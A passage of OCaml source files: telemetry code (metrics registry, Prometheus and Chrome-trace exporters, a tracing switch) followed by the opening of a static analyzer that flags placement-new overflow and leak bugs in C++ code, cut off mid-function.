    so call sites hold the instrument itself and the hot path touches
    only an [Atomic] (counters, gauges) or a short mutex-protected
    bucket update (histograms). Registries are first-class — the
    {!Service} keeps one per service instance for test isolation — and a
    process-wide {!default} registry collects instrumentation from
    layers that have no natural owner (Machine event bridging).

    Histograms bucket observations by [log2]: bucket [i] counts values
    [v] with [2^(i-1) < v <= 2^i] (bucket 0 counts [v <= 1]). That is
    coarse but cheap and needs no a-priori bounds — timings spanning
    nanoseconds to seconds land in < 64 buckets. *)

type labels = (string * string) list

type counter = { c_name : string; c_labels : labels; c_count : int Atomic.t }

type gauge = { g_name : string; g_labels : labels; g_value : float Atomic.t }

type histogram = {
  h_name : string;
  h_labels : labels;
  h_mutex : Mutex.t;
  mutable h_count : int;
  mutable h_sum : float;
  h_buckets : int array; (* 64 log2 buckets *)
}

type instrument =
  | Counter of counter
  | Gauge of gauge
  | Histogram of histogram

type registry = {
  r_mutex : Mutex.t;
  r_table : (string * labels, instrument) Hashtbl.t;
}

let create () = { r_mutex = Mutex.create (); r_table = Hashtbl.create 64 }

let default = create ()

let locked m f =
  Mutex.lock m;
  Fun.protect ~finally:(fun () -> Mutex.unlock m) f

let intern reg name labels build select =
  locked reg.r_mutex (fun () ->
      match Hashtbl.find_opt reg.r_table (name, labels) with
      | Some i -> select i
      | None ->
        let i = build () in
        Hashtbl.replace reg.r_table (name, labels) i;
        select i)

let counter ?(labels = []) reg name =
  intern reg name labels
    (fun () ->
      Counter { c_name = name; c_labels = labels; c_count = Atomic.make 0 })
    (function
      | Counter c -> c
      | _ -> invalid_arg (name ^ ": registered with another instrument type"))

let gauge ?(labels = []) reg name =
  intern reg name labels
    (fun () ->
      Gauge { g_name = name; g_labels = labels; g_value = Atomic.make 0. })
    (function
      | Gauge g -> g
      | _ -> invalid_arg (name ^ ": registered with another instrument type"))

let histogram ?(labels = []) reg name =
  intern reg name labels
    (fun () ->
      Histogram
        {
          h_name = name;
          h_labels = labels;
          h_mutex = Mutex.create ();
          h_count = 0;
          h_sum = 0.;
          h_buckets = Array.make 64 0;
        })
    (function
      | Histogram h -> h
      | _ -> invalid_arg (name ^ ": registered with another instrument type"))

(* -- hot-path operations ------------------------------------------- *)

let incr ?(by = 1) c = ignore (Atomic.fetch_and_add c.c_count by)
let count c = Atomic.get c.c_count

let set g v = Atomic.set g.g_value v
let value g = Atomic.get g.g_value

(* Bucket index for [v]: smallest [i] with [v <= 2^i], clamped to
   [0, 62]; bucket 63 is the overflow (+Inf) bucket. *)
let bucket_of v =
  if v <= 1. then 0
  else
    let i = int_of_float (Float.ceil (Float.log2 v)) in
    if i >= 63 then 63 else i

let observe h v =
  locked h.h_mutex (fun () ->
      h.h_count <- h.h_count + 1;
      h.h_sum <- h.h_sum +. v;
      let i = bucket_of v in
      h.h_buckets.(i) <- h.h_buckets.(i) + 1)

let hist_count h = locked h.h_mutex (fun () -> h.h_count)
let hist_sum h = locked h.h_mutex (fun () -> h.h_sum)

(* Merge a batch of observations accumulated off-registry — how a
   per-domain shard flushes into the shared histogram on export.
   [buckets] must use the same log2 bucketing as {!bucket_of} and may be
   shorter than 64 entries. *)
let absorb h ~count ~sum ~buckets =
  locked h.h_mutex (fun () ->
      h.h_count <- h.h_count + count;
      h.h_sum <- h.h_sum +. sum;
      Array.iteri
        (fun i n -> if n <> 0 then h.h_buckets.(i) <- h.h_buckets.(i) + n)
        buckets)

(* -- snapshots ------------------------------------------------------ *)

type hist_info = {
  hi_count : int;
  hi_sum : float;
  hi_buckets : (float * int) list;
      (** (upper bound, cumulative count) for non-empty prefix; the last
          entry is [(infinity, hi_count)]. *)
}

type info =
  | Counter_info of { name : string; labels : labels; count : int }
  | Gauge_info of { name : string; labels : labels; value : float }
  | Histogram_info of { name : string; labels : labels; hist : hist_info }

let info_name = function
  | Counter_info { name; _ } | Gauge_info { name; _ }
  | Histogram_info { name; _ } ->
    name

let info_labels = function
  | Counter_info { labels; _ } | Gauge_info { labels; _ }
  | Histogram_info { labels; _ } ->
    labels

let hist_snapshot h =
  locked h.h_mutex (fun () ->
      (* highest non-empty bucket bounds the emitted list *)
      let top = ref (-1) in
      Array.iteri (fun i n -> if n > 0 then top := i) h.h_buckets;
      let cumulative = ref 0 in
      let buckets = ref [] in
      for i = 0 to min !top 62 do
        cumulative := !cumulative + h.h_buckets.(i);
        buckets := (Float.pow 2. (float_of_int i), !cumulative) :: !buckets
      done;
      buckets := (Float.infinity, h.h_count) :: !buckets;
      { hi_count = h.h_count; hi_sum = h.h_sum; hi_buckets = List.rev !buckets })

let snapshot reg =
  let items =
    locked reg.r_mutex (fun () ->
        Hashtbl.fold (fun _ i acc -> i :: acc) reg.r_table [])
  in
  let infos =
    List.map
      (function
        | Counter c ->
          Counter_info
            { name = c.c_name; labels = c.c_labels; count = Atomic.get c.c_count }
        | Gauge g ->
          Gauge_info
            { name = g.g_name; labels = g.g_labels; value = Atomic.get g.g_value }
        | Histogram h ->
          Histogram_info
            { name = h.h_name; labels = h.h_labels; hist = hist_snapshot h })
      items
  in
  List.sort
    (fun a b ->
      match compare (info_name a) (info_name b) with
      | 0 -> compare (info_labels a) (info_labels b)
      | c -> c)
    infos

let reset reg =
  locked reg.r_mutex (fun () -> Hashtbl.reset reg.r_table)

(* -- exporters ------------------------------------------------------ *)

let pp_labels ppf = function
  | [] -> ()
  | labels ->
    Fmt.pf ppf "{%a}"
      (Fmt.list ~sep:Fmt.comma (fun ppf (k, v) -> Fmt.pf ppf "%s=%S" k v))
      labels

let pp_bound ppf b =
  if Float.is_finite b then
    if Float.is_integer b then Fmt.pf ppf "%.0f" b else Fmt.pf ppf "%g" b
  else Fmt.string ppf "+Inf"

(* Prometheus text exposition format. HELP lines are omitted (we carry
   no per-metric help strings); TYPE lines are emitted once per metric
   name. *)
let pp_prometheus ppf reg =
  let infos = snapshot reg in
  let last_typed = ref "" in
  let type_line name kind =
    if !last_typed <> name then begin
      Fmt.pf ppf "# TYPE %s %s@." name kind;
      last_typed := name
    end
  in
  List.iter
    (function
      | Counter_info { name; labels; count } ->
        type_line name "counter";
        Fmt.pf ppf "%s%a %d@." name pp_labels labels count
      | Gauge_info { name; labels; value } ->
        type_line name "gauge";
        Fmt.pf ppf "%s%a %g@." name pp_labels labels value
      | Histogram_info { name; labels; hist } ->
        type_line name "histogram";
        List.iter
          (fun (bound, cumulative) ->
            Fmt.pf ppf "%s_bucket%a %d@." name pp_labels
              (labels @ [ ("le", Fmt.str "%a" pp_bound bound) ])
              cumulative)
          hist.hi_buckets;
        Fmt.pf ppf "%s_sum%a %g@." name pp_labels labels hist.hi_sum;
        Fmt.pf ppf "%s_count%a %d@." name pp_labels labels hist.hi_count)
    infos

let to_json reg : Jsonx.t =
  let labels_json labels =
    Jsonx.Obj (List.map (fun (k, v) -> (k, Jsonx.Str v)) labels)
  in
  let item = function
    | Counter_info { name; labels; count } ->
      Jsonx.Obj
        [
          ("name", Jsonx.Str name);
          ("type", Jsonx.Str "counter");
          ("labels", labels_json labels);
          ("value", Jsonx.Int count);
        ]
    | Gauge_info { name; labels; value } ->
      Jsonx.Obj
        [
          ("name", Jsonx.Str name);
          ("type", Jsonx.Str "gauge");
          ("labels", labels_json labels);
          ("value", Jsonx.Float value);
        ]
    | Histogram_info { name; labels; hist } ->
      Jsonx.Obj
        [
          ("name", Jsonx.Str name);
          ("type", Jsonx.Str "histogram");
          ("labels", labels_json labels);
          ("count", Jsonx.Int hist.hi_count);
          ("sum", Jsonx.Float hist.hi_sum);
          ( "buckets",
            Jsonx.List
              (List.map
                 (fun (bound, cumulative) ->
                   Jsonx.Obj
                     [
                       ( "le",
                         if Float.is_finite bound then Jsonx.Float bound
                         else Jsonx.Str "+Inf" );
                       ("count", Jsonx.Int cumulative);
                     ])
                 hist.hi_buckets) );
        ]
  in
  Jsonx.List (List.map item (snapshot reg))
