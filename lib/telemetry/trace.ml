(** Structured tracing: nested timed spans and instant events, buffered
    per domain.

    Each domain that traces gets its own ring buffer and open-span
    stack, registered lazily through [Domain.DLS] — so {!Service.Pool}
    workers never contend on a shared buffer and the Chrome export
    renders one track per domain. When the global {!Switch} is off,
    {!with_span} costs one atomic load and a branch around the thunk;
    instants and annotations cost nothing.

    Timestamps are microseconds from an arbitrary process-local epoch
    (the first use of the module), which is what the Chrome Trace Event
    format expects. *)

type arg = Str of string | Int of int | Bool of bool | Float of float

(* A causal trace identity carried across layers (and, via {!Frame},
   across processes): which trace a span belongs to and which span is
   its parent. Span ids are process-unique; trace ids are drawn from
   the same generator so two processes sampling independently will not
   collide in practice (the generator is seeded from the monotonic
   clock at module init, then strides). *)
type ctx = { trace_id : int; parent_span : int }

type event = {
  ev_name : string;
  ev_cat : string;
  ev_track : int; (* domain id, rendered as tid *)
  ev_ts : float; (* microseconds since [epoch] *)
  ev_dur : float; (* microseconds; 0 for instants *)
  ev_instant : bool;
  ev_args : (string * arg) list;
}

(* A span still on the stack; args can grow via [add_args] until it
   closes. *)
type open_span = {
  sp_name : string;
  sp_cat : string;
  sp_start : float;
  sp_id : int; (* 0 when no ctx was installed at open time *)
  sp_parent : int;
  mutable sp_args : (string * arg) list;
}

type buffer = {
  b_track : int;
  b_mutex : Mutex.t; (* owner domain writes; exporters read *)
  b_ring : event option array;
  mutable b_next : int; (* total events ever pushed *)
  mutable b_dropped : int; (* overwritten by ring wrap-around *)
  mutable b_stack : open_span list;
  mutable b_ctx : ctx option; (* trace identity for spans opened here *)
}

let default_capacity = 16_384

let capacity = ref default_capacity

(* every domain's buffer, for exporters running on another domain *)
let all_buffers : buffer list Atomic.t = Atomic.make []

let register buf =
  let rec go () =
    let cur = Atomic.get all_buffers in
    if not (Atomic.compare_and_set all_buffers cur (buf :: cur)) then go ()
  in
  go ()

let key : buffer Domain.DLS.key =
  Domain.DLS.new_key (fun () ->
      let buf =
        {
          b_track = (Domain.self () :> int);
          b_mutex = Mutex.create ();
          b_ring = Array.make !capacity None;
          b_next = 0;
          b_dropped = 0;
          b_stack = [];
          b_ctx = None;
        }
      in
      register buf;
      buf)

let buffer () = Domain.DLS.get key

(* Monotonic so span durations can't be skewed by wall-clock steps. *)
let epoch = Clock.now_ns ()

let now_us () = Clock.elapsed_us ~a:epoch ~b:(Clock.now_ns ())

(* Convert a raw [Clock.now_ns] stamp taken elsewhere into this
   module's export timebase, for retroactive [emit]s. *)
let us_of_ns ns = Clock.elapsed_us ~a:epoch ~b:ns

(* -- trace identity ------------------------------------------------- *)

(* Process-unique span/trace ids. Seeded from the monotonic clock so
   two cooperating processes (client + server merged into one trace)
   allocate from disjoint ranges with overwhelming probability; ids
   only need uniqueness, not secrecy. 0 is reserved for "no parent". *)
let id_counter =
  let seed = Int64.to_int (Clock.now_ns ()) land 0x3f_ffff_ffff in
  Atomic.make ((seed lsl 20) lor 1)

let next_span_id () = Atomic.fetch_and_add id_counter 1

let new_ctx () = { trace_id = next_span_id (); parent_span = 0 }

let current () = (buffer ()).b_ctx

(* The (trace_id, parent_span) pair an outgoing request should carry:
   the innermost open span if there is one, else the installed ctx's
   parent. None when tracing is off or no ctx is installed — untraced
   requests stay byte-identical to the v1 wire format. *)
let wire_ctx () =
  if not (Switch.enabled ()) then None
  else
    let buf = buffer () in
    match buf.b_ctx with
    | None -> None
    | Some ctx ->
      let parent =
        match buf.b_stack with
        | top :: _ when top.sp_id <> 0 -> top.sp_id
        | _ -> ctx.parent_span
      in
      Some (ctx.trace_id, parent)

(* Install [ctx] for the dynamic extent of [f] on this domain: spans
   opened inside carry the trace identity. [None] restores the default
   (identity-less) behaviour. *)
let with_ctx ctx f =
  let buf = buffer () in
  let saved = buf.b_ctx in
  buf.b_ctx <- ctx;
  Fun.protect ~finally:(fun () -> buf.b_ctx <- saved) f

let locked m f =
  Mutex.lock m;
  Fun.protect ~finally:(fun () -> Mutex.unlock m) f

let push buf ev =
  locked buf.b_mutex (fun () ->
      let slot = buf.b_next mod Array.length buf.b_ring in
      if buf.b_ring.(slot) <> None then buf.b_dropped <- buf.b_dropped + 1;
      buf.b_ring.(slot) <- Some ev;
      buf.b_next <- buf.b_next + 1)

(* -- recording ------------------------------------------------------ *)

let instant ?(cat = "event") ?(args = []) name =
  if Switch.enabled () then
    let buf = buffer () in
    push buf
      {
        ev_name = name;
        ev_cat = cat;
        ev_track = buf.b_track;
        ev_ts = now_us ();
        ev_dur = 0.;
        ev_instant = true;
        ev_args = args;
      }

(* Annotate the innermost open span — e.g. a run span learns its
   verdict only after the interpreter returns. No-op when disabled or
   outside any span. *)
let add_args args =
  if Switch.enabled () then
    let buf = buffer () in
    match buf.b_stack with
    | [] -> ()
    | sp :: _ -> sp.sp_args <- sp.sp_args @ args

(* Trace-identity args appended at close time, so merged traces can be
   re-linked into span trees after export. Absent when no ctx is
   installed — the common single-process path is byte-identical to the
   pre-wire format. *)
let identity_args buf sp =
  match buf.b_ctx with
  | None -> []
  | Some ctx ->
    [
      ("trace_id", Int ctx.trace_id);
      ("span_id", Int sp.sp_id);
      ("parent_id", Int sp.sp_parent);
    ]

let with_span ?(cat = "span") ?(args = []) name f =
  if not (Switch.enabled ()) then f ()
  else begin
    let buf = buffer () in
    let sp_id, sp_parent =
      match buf.b_ctx with
      | None -> (0, 0)
      | Some ctx ->
        let parent =
          match buf.b_stack with
          | top :: _ when top.sp_id <> 0 -> top.sp_id
          | _ -> ctx.parent_span
        in
        (next_span_id (), parent)
    in
    let sp =
      { sp_name = name; sp_cat = cat; sp_start = now_us (); sp_id;
        sp_parent; sp_args = args }
    in
    buf.b_stack <- sp :: buf.b_stack;
    let close () =
      (match buf.b_stack with
      | top :: rest when top == sp -> buf.b_stack <- rest
      | stack ->
        (* exception tore through nested spans; drop through to [sp] *)
        let rec unwind = function
          | top :: rest when top == sp -> rest
          | _ :: rest -> unwind rest
          | [] -> stack
        in
        buf.b_stack <- unwind stack);
      push buf
        {
          ev_name = sp.sp_name;
          ev_cat = sp.sp_cat;
          ev_track = buf.b_track;
          ev_ts = sp.sp_start;
          ev_dur = now_us () -. sp.sp_start;
          ev_instant = false;
          ev_args = sp.sp_args @ identity_args buf sp;
        }
    in
    Fun.protect ~finally:close f
  end

(* Retroactive span: record an event whose start/duration were measured
   elsewhere (e.g. a queue wait clocked by the pool, or a request span
   closed when the reply is flushed rather than inside a [with_span]
   extent). [trace] is (trace_id, span_id, parent_id). *)
let emit ?(cat = "span") ?(args = []) ?trace ~name ~ts_us ~dur_us () =
  if Switch.enabled () then
    let buf = buffer () in
    let identity =
      match trace with
      | None -> []
      | Some (tid, id, parent) ->
        [
          ("trace_id", Int tid);
          ("span_id", Int id);
          ("parent_id", Int parent);
        ]
    in
    push buf
      {
        ev_name = name;
        ev_cat = cat;
        ev_track = buf.b_track;
        ev_ts = ts_us;
        ev_dur = dur_us;
        ev_instant = false;
        ev_args = args @ identity;
      }

(* -- reading back --------------------------------------------------- *)

let collect buf =
  locked buf.b_mutex (fun () ->
      Array.fold_left
        (fun acc slot -> match slot with Some ev -> ev :: acc | None -> acc)
        [] buf.b_ring)

let events () =
  let evs =
    List.concat_map collect (Atomic.get all_buffers)
  in
  List.sort (fun a b -> compare a.ev_ts b.ev_ts) evs

let dropped () =
  List.fold_left
    (fun acc buf -> acc + locked buf.b_mutex (fun () -> buf.b_dropped))
    0 (Atomic.get all_buffers)

let reset () =
  List.iter
    (fun buf ->
      locked buf.b_mutex (fun () ->
          Array.fill buf.b_ring 0 (Array.length buf.b_ring) None;
          buf.b_next <- 0;
          buf.b_dropped <- 0))
    (Atomic.get all_buffers)

(* -- exporters ------------------------------------------------------ *)

let arg_json = function
  | Str s -> Jsonx.Str s
  | Int i -> Jsonx.Int i
  | Bool b -> Jsonx.Bool b
  | Float f -> Jsonx.Float f

let args_json args = Jsonx.Obj (List.map (fun (k, v) -> (k, arg_json v)) args)

let event_json ev =
  let base =
    [
      ("name", Jsonx.Str ev.ev_name);
      ("cat", Jsonx.Str ev.ev_cat);
      ("ph", Jsonx.Str (if ev.ev_instant then "i" else "X"));
      ("ts", Jsonx.Float ev.ev_ts);
      ("pid", Jsonx.Int 1);
      ("tid", Jsonx.Int ev.ev_track);
    ]
  in
  let dur = if ev.ev_instant then [] else [ ("dur", Jsonx.Float ev.ev_dur) ] in
  let scope = if ev.ev_instant then [ ("s", Jsonx.Str "t") ] else [] in
  let args =
    match ev.ev_args with [] -> [] | args -> [ ("args", args_json args) ]
  in
  Jsonx.Obj (base @ dur @ scope @ args)

(* Chrome Trace Event JSON (object form) — loadable in Perfetto or
   chrome://tracing. One metadata record names each domain track. *)
let chrome_json () =
  let evs = events () in
  let tracks =
    List.sort_uniq compare (List.map (fun ev -> ev.ev_track) evs)
  in
  let metadata =
    List.map
      (fun track ->
        Jsonx.Obj
          [
            ("name", Jsonx.Str "thread_name");
            ("ph", Jsonx.Str "M");
            ("pid", Jsonx.Int 1);
            ("tid", Jsonx.Int track);
            ( "args",
              Jsonx.Obj [ ("name", Jsonx.Str (Fmt.str "domain-%d" track)) ] );
          ])
      tracks
  in
  Jsonx.Obj
    [
      ("traceEvents", Jsonx.List (metadata @ List.map event_json evs));
      ("displayTimeUnit", Jsonx.Str "ms");
    ]

let export_chrome ppf = Fmt.pf ppf "%s@." (Jsonx.to_string (chrome_json ()))

(* Compact JSONL: one event object per line, no envelope. *)
let export_jsonl ppf =
  List.iter
    (fun ev -> Fmt.pf ppf "%s@." (Jsonx.to_string (event_json ev)))
    (events ())

(* Merge several already-exported Chrome traces (e.g. client-side and
   server-side halves of a wire run) into one: input [i] is re-homed to
   pid [i+1] so per-process tracks stay distinct, and the traceEvents
   arrays concatenate. Span linkage survives untouched because it lives
   in trace_id/span_id/parent_id args, not in pids. *)
let merge_chrome traces =
  let repid pid = function
    | Jsonx.Obj fields ->
      Jsonx.Obj
        (List.map
           (fun (k, v) -> if k = "pid" then (k, Jsonx.Int pid) else (k, v))
           fields)
    | j -> j
  in
  let evs =
    List.concat
      (List.mapi
         (fun i trace ->
           let pid = i + 1 in
           match Jsonx.member "traceEvents" trace with
           | Some (Jsonx.List evs) -> List.map (repid pid) evs
           | _ -> [])
         traces)
  in
  Jsonx.Obj
    [
      ("traceEvents", Jsonx.List evs);
      ("displayTimeUnit", Jsonx.Str "ms");
    ]
