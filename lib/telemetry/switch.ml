(** The global telemetry switch.

    One atomic boolean gates every instrumentation site in the tree: when
    off, a span is a single load-and-branch around the wrapped thunk and
    an instant/bridged event is nothing at all. The switch is its own
    module (rather than living in {!Telemetry}) so that {!Trace} and
    {!Metrics} can share it without a dependency cycle. *)

let on = Atomic.make false

let enabled () = Atomic.get on
let enable () = Atomic.set on true
let disable () = Atomic.set on false
