(** Umbrella entry points for the telemetry layer.

    [Pna_telemetry.Switch] holds the global on/off gate, [Metrics] the
    registry, [Trace] the span API, and [Jsonx] the JSON carrier used by
    the exporters. This module re-exports the switch for callers that
    only want to flip telemetry on. *)

let enable = Switch.enable
let disable = Switch.disable
let enabled = Switch.enabled

(** [with_enabled f] runs [f] with tracing on, restoring the previous
    switch state afterwards. Buffers are not reset — compose with
    {!Trace.reset} when a fresh trace is wanted. *)
let with_enabled f =
  let was = Switch.enabled () in
  Switch.enable ();
  Fun.protect ~finally:(fun () -> if not was then Switch.disable ()) f
