(** The placement-new vulnerability detector — the static analysis tool the
    paper announces as future work (§7), built on the §5.1 "correct coding"
    rules.

    One forward abstract-interpretation pass per function:
    - every [Pnew]/[Pnew_arr] site is checked: does the placed footprint
      provably fit the arena backing the target address?
    - attacker taint ([cin], remote pointer parameters) is propagated into
      sizes and counts;
    - recognized guards refine the domain: a constant-foldable
      [sizeof(A) <= sizeof(B)] conditional prunes the untaken branch, and
      an [if (x > bound) return] pattern bounds [x];
    - once an overflowing placement is seen, previously-established
      constants and bounds are distrusted ("clobbered") — which is exactly
      what exposes the two-step array attacks of §4;
    - copy loops bounded by remote data that write into fixed-size members
      are flagged (§3.2 Listing 6);
    - smaller-over-larger placements without a prior memset are information
      leaks (§4.3); [Delete_placed] is a §4.5 memory leak. *)

open Pna_layout
module Ast = Pna_minicpp.Ast
open Absdom

type ctx = {
  lenv : Layout.env;
  prog : Ast.program;
  globals_written : (string, unit) Hashtbl.t;
  decls : (string, Ctype.t) Hashtbl.t;  (** current function's locals *)
  mutable cur_func : string;
  mutable sanitized : string list;  (** region names memset so far *)
  mutable content_tainted : string list;
      (** regions whose *contents* are attacker bytes (recv targets,
          attacker strings, copies thereof) *)
  mutable guards : (Ast.expr * Ast.expr) list;
      (** dominating [__arena_size(place) >= footprint] guards, matched
          structurally against placement sites (the hardener's output) *)
  mutable report_enabled : bool;
  collect : (string, aval list) Hashtbl.t option;
      (** when set (interprocedural mode), record the join of abstract
          arguments seen at each call site *)
  mutable findings : Finding.t list;
}

let sizeof ctx ty = Layout.sizeof ctx.lenv ty

(* The runtime allocator hands out blocks rounded up to 8 bytes
   ([Heap.align8]) and registers the *rounded* size as the arena, so the
   usable bytes behind a heap pointer include the padding. Judging a
   heap placement against the unrounded [sizeof] reports provable
   overflows the padding absorbs — a static false positive the E17
   differential campaign surfaced. *)
let align8_size = function
  | Known n -> Known ((n + 7) land lnot 7)
  | Bounded n -> Bounded ((n + 7) land lnot 7)
  | (Tainted | Unknown) as s -> s

let cname_of = function Ctype.Class c -> Some c | _ -> None

let report ctx kind fmt =
  Fmt.kstr
    (fun message ->
      if ctx.report_enabled then
        ctx.findings <-
          { Finding.kind; func = ctx.cur_func; message } :: ctx.findings)
    fmt

(* Which globals does the program ever write? Constant-foldable globals
   must never be assigned. *)
let collect_written prog =
  let tbl = Hashtbl.create 16 in
  let on_stmt () = function
    | Ast.Assign (Ast.Var x, _) -> Hashtbl.replace tbl x ()
    | _ -> ()
  in
  ignore (Ast.fold_program on_stmt (fun () _ -> ()) () prog);
  tbl

let global_def ctx name =
  List.find_opt (fun g -> g.Ast.g_name = name) ctx.prog.Ast.p_globals

let field_of ctx cname f =
  Layout.find_field (Layout.of_class ctx.lenv cname) f

(* ------------------------------------------------------------------ *)
(* Abstract evaluation                                                 *)

let rec aeval ctx env (e : Ast.expr) : aval =
  match e with
  | Ast.Int n -> Int_v (Known n)
  | Ast.Flt _ -> Other_v
  | Ast.Str s ->
    Ptr_v
      (region ~kind:(Global_region "<literal>") ~align:1
         ~size:(Known (String.length s + 1))
         "<literal>")
  | Ast.Nullptr -> Ptr_v unknown_region
  | Ast.Cin -> Int_v Tainted
  | Ast.Cin_str -> Ptr_v (remote_region "<attacker string>")
  | Ast.Sizeof ty -> Int_v (Known (sizeof ctx ty))
  | Ast.Fun_addr _ -> Other_v
  | Ast.Var x -> lookup ctx env x
  | Ast.Addr lv -> Ptr_v (region_of_lvalue ctx env lv)
  | Ast.Deref p -> (
    match aeval ctx env p with
    | Ptr_v r when region_tainted ctx r -> Int_v Tainted
    | _ -> Int_v Unknown)
  | Ast.Field (b, f) | Ast.Arrow (b, f) -> (
    (* reading a member: tainted when the object came from outside *)
    let base =
      match e with
      | Ast.Arrow _ -> aeval ctx env b
      | _ -> Ptr_v (region_of_lvalue ctx env b)
    in
    match base with
    | Ptr_v r -> (
      match (r.r_kind, member_type ctx r f) with
      | _, Some ((Ctype.Array _ | Ctype.Class _) as ty) ->
        (* member aggregate decays to a pointer into the object *)
        Ptr_v
          (region ~kind:(member_kind r) ~size:(Known (sizeof ctx ty))
             ~align:(Layout.alignof ctx.lenv ty) ?class_:(cname_of ty)
             (Fmt.str "%s.%s" r.r_name f))
      | _, _ when region_tainted ctx r -> Int_v Tainted
      | _ -> Int_v Unknown)
    | _ -> Int_v Unknown)
  | Ast.Index (b, _) -> (
    match aeval ctx env b with
    | Ptr_v r when region_tainted ctx r -> Int_v Tainted
    | _ -> Int_v Unknown)
  | Ast.Un (Ast.Neg, e') -> (
    match aeval ctx env e' with
    | Int_v (Known n) -> Int_v (Known (-n))
    | Int_v Tainted -> Int_v Tainted
    | _ -> Int_v Unknown)
  | Ast.Un (Ast.Not, _) -> Int_v Unknown
  | Ast.Un ((Ast.Preinc | Ast.Predec), Ast.Var x) ->
    let v =
      match lookup ctx env x with
      | Int_v s -> Int_v (add s (Known 1))
      | v -> v
    in
    set env x v;
    v
  | Ast.Un ((Ast.Preinc | Ast.Predec), _) -> Int_v Unknown
  | Ast.Bin (op, a, b) -> (
    let va = aeval ctx env a and vb = aeval ctx env b in
    let rec gcd a b = if b = 0 then a else gcd b (a mod b) in
    let shift_region r k =
      (* p + k: k bytes fewer remain; the alignment guarantee weakens to
         gcd(align, k) *)
      Ptr_v
        {
          r with
          r_size = (match r.r_size with Known s -> Known (s - k) | other -> other);
          r_align =
            Option.map (fun al -> if k = 0 then al else gcd al (abs k)) r.r_align;
          r_name = Fmt.str "%s%+d" r.r_name k;
        }
    in
    match (op, va, vb) with
    | Ast.Add, Ptr_v r, Int_v (Known k) | Ast.Add, Int_v (Known k), Ptr_v r ->
      shift_region r k
    | Ast.Sub, Ptr_v r, Int_v (Known k) -> shift_region r (-k)
    | (Ast.Add | Ast.Sub), Ptr_v r, Int_v _ ->
      Ptr_v { r with r_size = Unknown; r_align = None; r_name = r.r_name ^ "+?" }
    | Ast.Add, Int_v x, Int_v y -> Int_v (add x y)
    | Ast.Mul, Int_v x, Int_v y -> Int_v (mul x y)
    | Ast.Sub, Int_v (Known x), Int_v (Known y) -> Int_v (Known (x - y))
    | Ast.Sub, Int_v Tainted, _ | Ast.Sub, _, Int_v Tainted -> Int_v Tainted
    | _ -> Int_v Unknown)
  | Ast.Cast (_, e') -> aeval ctx env e'
  | Ast.Call ("__arena_size", [ p ]) -> (
    (* The bounds-check intrinsic. Statically foldable only for whole
       allocations: for a member subobject the runtime answer is the
       *enclosing* allocation's remainder, which the static member size
       does not bound. *)
    match place_region ctx env p with
    | { r_kind = Global_region _ | Local_region _ | Heap_region; r_size; _ } ->
      Int_v r_size
    | _ -> Int_v Unknown)
  | Ast.Call (name, args) ->
    List.iter (fun a -> ignore (aeval ctx env a)) args;
    check_call ctx env name args;
    Int_v Unknown
  | Ast.Mcall (o, _, args) ->
    ignore (aeval ctx env o);
    List.iter (fun a -> ignore (aeval ctx env a)) args;
    Int_v Unknown
  | Ast.Fpcall (f, args) ->
    ignore (aeval ctx env f);
    List.iter (fun a -> ignore (aeval ctx env a)) args;
    Int_v Unknown
  | Ast.New (ty, args) ->
    List.iter (fun a -> ignore (aeval ctx env a)) args;
    Ptr_v
      (region ~kind:Heap_region
         ~size:(align8_size (Known (sizeof ctx ty)))
         ~align:8 ?class_:(cname_of ty)
         (Fmt.str "new %a" Ctype.pp ty))
  | Ast.New_arr (ty, n) ->
    let count = as_size (aeval ctx env n) in
    Ptr_v
      (region ~kind:Heap_region ~align:8
         ~size:(align8_size (mul count (Known (sizeof ctx ty))))
         (Fmt.str "new %a[]" Ctype.pp ty))
  | Ast.Pnew (place, ty, args) ->
    List.iter (fun a -> ignore (aeval ctx env a)) args;
    let dest = place_region ctx env place in
    let placed = Known (sizeof ctx ty) in
    check_placement ctx env ~placed ~align:(Layout.alignof ctx.lenv ty) ~dest
      ~site:(place, Ast.Sizeof ty)
      ~what:(Fmt.str "%a" Ctype.pp ty);
    Ptr_v
      (region ~kind:Placed_region ~size:placed ?class_:(cname_of ty)
         (Fmt.str "placed %a" Ctype.pp ty))
  | Ast.Pnew_arr (place, ty, n) ->
    let dest = place_region ctx env place in
    let count = as_size (aeval ctx env n) in
    let placed = mul count (Known (sizeof ctx ty)) in
    check_placement ctx env ~placed ~align:(Layout.alignof ctx.lenv ty) ~dest
      ~site:(place, Ast.Bin (Ast.Mul, n, Ast.Sizeof ty))
      ~what:(Fmt.str "%a[%a]" Ctype.pp ty pp_size count);
    Ptr_v
      (region ~kind:Placed_region ~size:placed
         (Fmt.str "placed %a[]" Ctype.pp ty))

and as_size = function Int_v s -> s | _ -> Unknown

and member_kind r =
  match r.r_kind with Remote_region -> Remote_region | _ -> Member_region r.r_name

and member_type ctx r f =
  match r.r_class with
  | None -> None
  | Some c ->
    Option.map (fun fl -> fl.Layout.f_type) (field_of ctx c f)

and lookup ctx env x =
  match Hashtbl.find_opt env.vars x with
  | Some _ -> get env x
  | None -> (
    match Hashtbl.find_opt ctx.decls x with
    | Some ((Ctype.Array _ | Ctype.Class _) as ty) ->
      Ptr_v
        (region ~kind:(Local_region x) ~size:(Known (sizeof ctx ty))
           ~align:(Layout.alignof ctx.lenv ty) ?class_:(cname_of ty) x)
    | Some _ -> Int_v Unknown
    | None -> (
      match global_def ctx x with
      | Some g -> (
        match (g.Ast.g_type, g.Ast.g_init) with
        | (Ctype.Array _ | Ctype.Class _), _ ->
          Ptr_v
            (region ~kind:(Global_region x)
               ~size:(Known (sizeof ctx g.Ast.g_type))
               ~align:(Layout.alignof ctx.lenv g.Ast.g_type)
               ?class_:(cname_of g.Ast.g_type) x)
        | _, Ast.Ival n when not (Hashtbl.mem ctx.globals_written x) ->
          if env.clobbered then Int_v Tainted else Int_v (Known n)
        | _ -> Int_v Unknown)
      | None -> Int_v Unknown))

and region_of_lvalue ctx env (lv : Ast.expr) : region =
  match lv with
  | Ast.Var x -> (
    match lookup ctx env x with
    | Ptr_v r -> r
    | _ -> (
      (* scalar variable: its own cell is the arena *)
      let ty =
        match Hashtbl.find_opt ctx.decls x with
        | Some ty -> Some ty
        | None -> Option.map (fun g -> g.Ast.g_type) (global_def ctx x)
      in
      match ty with
      | Some ty ->
        region ~kind:(Local_region x) ~size:(Known (sizeof ctx ty))
          ~align:(Layout.alignof ctx.lenv ty) x
      | None -> unknown_region))
  | Ast.Field (b, f) | Ast.Arrow (b, f) -> (
    let base =
      match lv with
      | Ast.Arrow _ -> aeval ctx env b
      | _ -> Ptr_v (region_of_lvalue ctx env b)
    in
    match base with
